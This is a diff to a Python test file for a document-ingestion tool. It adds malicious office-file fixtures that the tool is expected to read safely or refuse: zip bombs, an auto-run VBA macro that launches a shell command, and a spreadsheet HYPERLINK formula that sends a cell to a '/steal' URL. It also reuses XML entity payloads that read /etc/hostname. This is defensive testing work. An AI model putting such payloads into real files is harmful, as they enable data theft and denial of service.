@@ -1,10 +1,13 @@
 """Files that nobody should have put in the folder: each is read right or refused clearly, and the others go in."""
 
+import io
 import os
 import resource
+import zipfile
 from collections.abc import Callable, Iterator
 from dataclasses import fields
 from pathlib import Path
+from typing import Any
 
 import pytest
 from typer.testing import CliRunner
@@ -14,6 +17,7 @@ from assistant.cli.services import Services
 from assistant.domain import Document
 from ingest.readers.numerals import letter
 from tests.ingest.desk import Desk, counts
+from tests.ingest.probes.office import book, opened, slides
 from tests.ingest.word_file import p, word, zipped
 from tests.ingest.written_pdf import pdf
 
@@ -30,6 +34,35 @@ THEFT = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostna
 STEALING = PAGE.replace("<!DOCTYPE html>", '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]>').replace(
     PROSE, f"{PROSE}&x;"
 )
+
+OPEN = "application/vnd.oasis.opendocument.text"
+
+
+def bomb(part: str, kind: str = "") -> bytes:
+    return zipped({"mimetype": kind, part: " " * (60 * MEGABYTE)})
+
+
+def with_macro(data: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(data)) as made:
+        parts = {name: made.read(name) for name in made.namelist()}
+    folder = "ppt" if "ppt/presentation.xml" in parts else "xl"
+    return zipped(parts | {f"{folder}/vbaProject.bin": b'Sub AutoOpen() : Shell "calc" : End Sub'})
+
+
+def one_slide(deck: Any) -> None:
+    box = deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_textbox(0, 0, 9000, 9000)
+    box.text_frame.text = PROSE
+
+
+def one_cell(made: Any) -> None:
+    made.active["A1"] = PROSE
+
+
+def formulas(made: Any) -> None:
+    made.active["A1"] = PROSE
+    made.active["A2"] = '=HYPERLINK("http://127.0.0.1/steal?"&A1, "more")'
+    made.active["A3"] = "='http://127.0.0.1/[other.xlsx]Sheet1'!A1"
+
 
 READ: dict[str, tuple[str, Made, str]] = {
     "HTML named .docx": ("guide.docx", PAGE, GUIDE),
@@ -52,6 +85,10 @@ READ: dict[str, tuple[str, Made, str]] = {
     "one long line": ("guide.md", " ".join([PROSE] * 20_000), " ".join([PROSE] * 20_000)),
     "brackets without end": ("guide.md", "[" * 50_000 + f" {PROSE}", "[" * 50_000 + f" {PROSE}"),
     "tags without end": ("guide.html", f"<p>{PROSE}" + "<" * 100_000, PROSE + "<" * 100_000),
+    "slides with a macro": ("guide.pptx", lambda: with_macro(slides(one_slide)), PROSE),
+    "workbook with a macro": ("guide.xlsx", lambda: with_macro(book(one_cell)), PROSE),
+    "workbook with formulas": ("guide.xlsx", lambda: book(formulas), PROSE),
+    "slides named .docx": ("guide.docx", lambda: slides(one_slide), PROSE),
     "PDF named .txt": ("guide.txt", pdf([PROSE]), PROSE),
     "PDF named .docx": ("guide.docx", pdf([PROSE]), PROSE),
     "PDF with a script": ("guide.pdf", pdf([PROSE], script="app.alert(1)"), PROSE),
@@ -87,11 +124,33 @@ REFUSED: dict[str, tuple[str, Made, str]] = {
     "old Word": (
         "bad.docx",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
-        "old kind (.doc), or one with a password",
+        "old kind (.doc, .xls, .ppt), or one with a password",
     ),
     "rich text named .docx": ("bad.docx", r"{\rtf1 words}", "a rich text document"),
-    "spreadsheet named .docx": ("bad.docx", zipped({"xl/workbook.xml": "<x/>"}), "an Excel workbook"),
-    "OpenDocument named .docx": ("bad.docx", zipped({"content.xml": "<x/>"}), "an OpenDocument file"),
+    "OpenDocument of another kind": ("bad.docx", zipped({"content.xml": "<x/>"}), "an OpenDocument file"),
+    "zip bomb of slides": ("bad.pptx", lambda: bomb("ppt/presentation.xml"), "larger than 50 MB"),
+    "zip bomb of cells": ("bad.xlsx", lambda: bomb("xl/worksheets/sheet1.xml"), "larger than 50 MB"),
+    "zip bomb of OpenDocument": ("bad.odt", lambda: bomb("content.xml", OPEN), "larger than 50 MB"),
+    "entities in slides": ("bad.pptx", zipped({"ppt/presentation.xml": BOMB}), "declares entities"),
+    "entities in cells": ("bad.xlsx", zipped({"xl/workbook.xml": THEFT}), "declares entities"),
+    "entities in OpenDocument": ("bad.odt", zipped({"mimetype": OPEN, "content.xml": THEFT}), "declares entities"),
+    "slides without slides": ("bad.pptx", zipped({"ppt/presentation.xml": "<x/>"}), "damaged or incomplete"),
+    "truncated slides": ("bad.pptx", lambda: slides(one_slide)[:9000], "damaged or incomplete"),
+    "truncated workbook": ("bad.xlsx", lambda: book(one_cell)[:2000], "damaged or incomplete"),
+    "workbook without sheets": ("bad.xlsx", zipped({"xl/workbook.xml": "<x/>"}), "damaged or incomplete"),
+    "OpenDocument with a password": (
+        "bad.odt",
+        zipped({"mimetype": OPEN, "META-INF/manifest.xml": "<m><encryption-data/></m>", "content.xml": "<x/>"}),
+        "password",
+    ),
+    "OpenDocument nested deep": (
+        "bad.odt",
+        lambda: opened("<text:section>" * 240 + f"<text:p>{PROSE}</text:p>" + "</text:section>" * 240),
+        "levels deep",
+    ),
+    "slides with a password": ("bad.pptx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "with a password"),
+    "text named .pptx": ("bad.pptx", PROSE, "is not a PowerPoint presentation"),
+    "text named .xlsx": ("bad.xlsx", PROSE, "is not an Excel workbook"),
     "picture named .txt": ("bad.txt", b"\x89PNG\r\n\x1a\n" + bytes(500), "a picture"),
     "bytes named .txt": ("bad.txt", bytes(range(256)) * 20, "not text"),
     "web archive without a page": (
